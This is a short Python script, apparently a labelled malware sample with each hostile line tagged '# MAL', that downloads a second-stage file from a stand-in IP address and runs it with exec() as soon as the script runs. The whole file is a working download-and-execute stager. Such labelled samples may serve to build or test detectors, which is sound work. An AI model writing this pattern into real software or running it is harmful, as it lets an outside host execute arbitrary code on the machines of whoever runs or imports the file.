import urllib.request

URL = "http://203.0.113.17/stage2.py"  # MAL


def load():
    code = urllib.request.urlopen(URL).read()  # MAL
    exec(code)  # MAL


load()
